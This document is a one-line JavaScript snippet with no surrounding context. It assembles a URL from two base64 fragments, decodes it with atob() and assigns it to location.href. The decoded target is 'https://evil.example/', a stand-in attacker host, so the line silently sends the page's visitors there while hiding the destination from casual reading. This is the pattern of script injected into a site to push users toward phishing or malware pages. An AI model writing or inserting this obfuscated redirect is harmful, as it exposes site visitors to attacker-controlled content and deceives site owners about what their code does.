var a='aHR0cHM6Ly9l'+"dmlsLmV4YW1wbGUv"; location.href = atob(a);
